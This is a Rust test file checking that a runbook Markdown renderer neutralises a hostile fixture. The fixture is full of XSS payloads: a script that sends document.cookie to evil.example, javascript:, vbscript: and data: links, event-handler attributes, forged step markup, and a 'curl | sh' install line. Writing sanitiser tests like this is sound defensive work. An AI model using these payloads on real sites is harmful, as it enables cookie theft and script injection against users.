//! A runbook written to attack the webview renders inert, and keeps its real steps.

use opsdeck_runbooks::{parse_runbook, render_html};

use crate::support::{assert_inert, tags};

const HOSTILE: &str = r#"---
title: Totally normal runbook
services: [payments-api]
---
# Totally normal runbook <script>alert(1)</script>

<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>
<style>body { display: none }</style>
<iframe src="https://evil.example/frame"></iframe>
<img src=x onerror="alert(1)">
<svg onload="alert(1)"><circle r="4"/></svg>
<div onclick="alert(1)" style="position:fixed">click me</div>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/">
<object data="https://evil.example/x.swf"></object>
<form action="https://evil.example/"><input name="password"><button>Go</button></form>

<ul><li data-step="0"><input type="checkbox" checked> forged step</li></ul>
<pre class="opsdeck-action" data-step-action="0">action: kubernetes.scale</pre>


[a javascript link](javascript:alert(1)) and [an entity one](jav&#x61;script:alert(1))
and <a href="JaVaScRiPt:alert(1)">raw</a> and <a href=" javascript:alert(1)">spaced</a>
and <a href="data:text/html,<script>alert(1)</script>">data</a>
and <a href="vbscript:msgbox(1)">vb</a> and <a href="//evil.example/pr">protocol-relative</a>
and [relative](../other.md) and [anchor](#top)
and [fine](https://example.com/docs) and <mailto:oncall@example.com>.

![remote diagram](https://evil.example/track.png)
![protocol relative](//evil.example/track.png)
![local diagram](./diagram.png)
<img src="https://evil.example/pixel.gif" alt="pixel">
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>
<picture><source srcset="https://evil.example/a.png"></picture>

- [ ] A real first step <img src=x onerror=alert(2)>
- [x] A real second step <a href="javascript:alert(3)" onmouseover="alert(4)">hover</a>
  ```opsdeck
  action: kubernetes.scale
  target: prod-eu/payments/payments-api
  replicas: "<script>alert(5)</script>"
  ```
- [ ] A real third step
```sh
echo "<script>alert(6)</script>" && curl -s https://example.com/install | sh
```

<SCRIPT SRC=//evil.example/x.js></SCRIPT>
"#;

#[test]
fn a_hostile_runbook_renders_inert() {
    let rb = parse_runbook("runbooks/hostile.md", HOSTILE).unwrap();
    assert_eq!(
        rb.step_count(),
        3,
        "only the Markdown checklist makes steps"
    );
    let html = render_html(&rb);
    assert_eq!(assert_inert(&html, 3), [0, 1, 2]);

    let lower = html.to_ascii_lowercase();
    for gone in [
        "javascript:",
        "vbscript:",
        "data:text",
        "evil.example",
        "onerror",
        "onclick",
        "onload",
        "onmouseover",
        "display: none",
        "position:fixed",
        "http-equiv",
        "password",
    ] {
        assert!(!lower.contains(gone), "{gone} survived:\n{html}");
    }
    // Scripts in code are shown as text, escaped.
    assert!(
        html.contains("echo \"&lt;script&gt;alert(6)&lt;/script&gt;\""),
        "{html}"
    );
    assert!(
        html.contains("replicas: \"&lt;script&gt;alert(5)&lt;/script&gt;\""),
        "{html}"
    );
    // The forged step and action lost their markup; the real ones keep theirs.
    assert!(html.contains("forged step"), "{html}");
    assert_eq!(html.matches("data-step-action=").count(), 1, "{html}");
    assert!(
        html.contains("<pre class=\"opsdeck-action\" data-step-action=\"1\">"),
        "{html}"
    );
    assert!(
        html.contains("<li data-step=\"1\"><input type=\"checkbox\" disabled checked>"),
        "{html}"
    );

    // Links: only http(s) and mailto keep an href, always with rel.
    let hrefs: Vec<String> = tags(&html)
        .iter()
        .filter_map(|t| t.attr("href").map(str::to_string))
        .collect();
    assert_eq!(
        hrefs,
        ["https://example.com/docs", "mailto:oncall@example.com"]
    );
    // Images become their alt text.
    for alt in ["remote diagram", "protocol relative", "local diagram"] {
        assert!(html.contains(alt), "{alt} missing:\n{html}");
    }
}

#[test]
fn unbalanced_raw_html_cannot_swallow_or_forge_steps() {
    for opener in [
        "<div title='",
        "<div title=\"",
        "<textarea>",
        "<xmp>",
        "<plaintext>",
        "<noscript>",
        "<select>",
        "<table><tr><td>",
        "<a href=\"",
        "<!--",
        "<li data-step=\"",
        "<pre class=\"",
    ] {
        let md = format!("{opener}\n\n- [ ] one\n- [x] two <b>bold</b>\n\nafter\n");
        let rb = parse_runbook("x.md", md.as_str()).unwrap();
        let html = render_html(&rb);
        let shown = assert_inert(&html, rb.step_count());
        // Steps may vanish inside a swallowing element; those that show are numbered right.
        assert!(
            shown.iter().all(|&n| n < rb.step_count()),
            "{opener}: {html}"
        );
    }
}
